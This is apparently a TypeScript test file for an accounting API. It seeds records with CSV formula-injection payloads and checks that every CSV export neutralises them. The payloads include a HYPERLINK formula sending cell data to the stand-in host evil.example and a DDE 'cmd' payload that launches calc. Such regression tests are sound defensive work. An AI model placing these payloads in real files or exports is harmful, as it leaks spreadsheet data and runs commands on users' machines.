import { beforeAll, describe, expect, it } from 'vitest';
import { createAccount } from '../../src/modules/ledger/index.ts';
import { parseCsv } from '../../src/modules/ledger/service/table-file.ts';
import { makeDepartment, makePerson, type PersonFixture } from '../../src/modules/org/factories.ts';
import { makeParty } from '../../src/modules/parties/factories.ts';
import { makeBill, makePurchasing } from '../../src/modules/purchasing/factories.ts';
import { submitBill } from '../../src/modules/purchasing/index.ts';
import { makeDraft, makeSales } from '../../src/modules/sales/factories.ts';
import { registeredRoutes } from '../../src/platform/http/route.ts';
import { type TestApp, testApp } from '../support/app.ts';
import { issueInvoices, postBill } from '../support/compose.ts';
import { withFreshDatabase } from '../support/db.ts';

/**
 * Issue #9 item 6: every CSV the API writes goes through the one defusing cell writer. Names that are formulas
 * go into every kind of record an export lists; then every GET route that answers `?format=csv` is called and
 * no cell may start with = + - @ tab or CR (a plain number such as -12.50 is data, not a formula).
 */

const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Open")';
const hostile = (start: string) => `${start}${FORMULA.slice(1)}`;

const fresh = withFreshDatabase();
let t: TestApp;
let salesOwner: PersonFixture;
let buyingOwner: PersonFixture;

beforeAll(async () => {
  t = testApp(fresh.db);
  const s = await makeSales(fresh.db);
  salesOwner = await makePerson(fresh.db, s.companyId, { role: 'owner', name: hostile('+') });
  const customer = await makeParty(fresh.db, s.companyId, {
    legalName: FORMULA,
    currency: 'CZK',
    ctx: s.ctx,
  });
  const draft = await makeDraft(fresh.db, s, {
    partyId: customer.id,
    issueDate: '2026-01-05',
    dueDate: '2026-01-19',
    lines: [{ description: hostile('@'), quantity: '1', unit: 'C62', unitPrice: '100', taxCode: 'S21' }],
  });
  await fresh.db.tx((tx) => issueInvoices(tx, s.ctx, [draft.id]));
  await fresh.db.tx((tx) =>
    createAccount(tx, s.ctx, { code: '6999', name: "-1+cmd|' /C calc'!A0", type: 'expense' }),
  );
  await makeDepartment(fresh.db, s.companyId, { name: hostile('\t') });
  await makePerson(fresh.db, s.companyId, { role: 'assistant', name: hostile('\r') });

  const p = await makePurchasing(fresh.db);
  buyingOwner = await makePerson(fresh.db, p.companyId, { role: 'owner' });
  const vendor = await makeParty(fresh.db, p.companyId, {
    legalName: FORMULA,
    vendor: true,
    customer: false,
    currency: 'CZK',
    ctx: p.ctx,
  });
  const bill = await makeBill(fresh.db, p, {
    vendorId: vendor.id,
    issueDate: '2026-03-01',
    dueDate: '2026-03-10',
  });
  await fresh.db.tx((tx) => submitBill(tx, p.ctx, bill.id));
  await fresh.db.tx((tx) => postBill(tx, p.ctx, bill.id));
});

/** Every GET route without path parameters, asked for CSV with the query parameters reports commonly need. */
async function csvExports(token: string): Promise<Map<string, string>> {
  const out = new Map<string, string>();
  const query = 'format=csv&asOf=2026-04-01&from=2026-01-01&to=2026-12-31&currency=CZK';
  for (const r of registeredRoutes()) {
    if (r.method !== 'get' || r.path.includes('{')) continue;
    const res = await t.request('GET', `${r.path}?${query}`, { token });
    if (res.status === 200 && (res.headers.get('content-type') ?? '').startsWith('text/csv'))
      out.set(r.path, res.text);
  }
  return out;
}

function formulaCells(csv: string): string[] {
  const rows = parseCsv(csv);
  const cells = rows.flatMap((row) => [...Object.keys(row), ...Object.values(row)]);
  return cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+(\.\d+)?$/.test(c));
}

describe('CSV exports', () => {
  it('no cell of any CSV export starts a formula, whatever the names', async () => {
    const seen = new Map<string, string>();
    for (const [path, csv] of await csvExports(salesOwner.token)) seen.set(`sales ${path}`, csv);
    for (const [path, csv] of await csvExports(buyingOwner.token)) seen.set(`buying ${path}`, csv);

    // The walk really reached the exports that carry the hostile names.
    for (const path of [
      'sales /api/v1/reports/ar-aging',
      'buying /api/v1/reports/ap-aging',
      'sales /api/v1/parties',
      'sales /api/v1/people',
      'sales /api/v1/departments',
      'sales /api/v1/ledger/accounts',
    ])
      expect([...seen.keys()], path).toContain(path);
    expect(seen.get('sales /api/v1/reports/ar-aging')).toContain(`'=HYPERLINK`);
    expect(seen.get('buying /api/v1/reports/ap-aging')).toContain(`'=HYPERLINK`);

    for (const [path, csv] of seen) expect(formulaCells(csv), path).toEqual([]);
  });
});
